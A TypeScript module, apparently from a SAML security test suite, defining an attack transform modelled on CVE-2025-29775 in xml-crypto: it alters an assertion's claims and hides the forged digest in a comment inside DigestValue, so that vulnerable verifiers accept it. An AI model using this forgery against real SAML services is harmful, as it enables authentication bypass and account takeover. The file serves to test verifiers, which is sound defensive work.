/**
 * DigestValue comment (the CVE-2025-29775 shape): the claims are changed, the digest of the
 * changed assertion is put in a comment before the original DigestValue text. SignatureValue
 * still covers the canonical SignedInfo (comments dropped, original digest); a verifier that
 * reads the digest from DigestValue's first child node compares against the comment.
 * @see GHSA-x3m8-899r-f7c3 / CVE-2025-29775 (xml-crypto < 6.0.1, 2.1.6, 3.2.1); node-saml/xml-crypto
 *   test/static/valid_saml_with_digest_comment.xml (shape)
 */
import { NS } from '../../xml/namespaces.ts';
import { applyEvil, readSigned, write } from './edit.ts';
import { envelopedSha256Digest } from './digest.ts';
import type { SamlAttack } from './types.ts';

export const DIGEST_VALUE_COMMENT: SamlAttack = {
  name: 'digest-value-comment',
  fixture: 'digest-value-comment-cve-2025-29775',
  summary:
    'claims changed; the changed assertion’s digest hidden in a comment at the start of DigestValue',
  source: 'CVE-2025-29775 (xml-crypto DigestValue comment)',
  apply: ({ signed, evil }) => {
    const s = readSigned(signed);
    applyEvil(s.assertion, evil);
    const digestValue = s.signature.getElementsByTagNameNS(NS.ds, 'DigestValue').item(0)!;
    digestValue.insertBefore(
      s.doc.createComment(envelopedSha256Digest(s.assertion)),
      digestValue.firstChild,
    );
    return write(s.doc);
  },
};
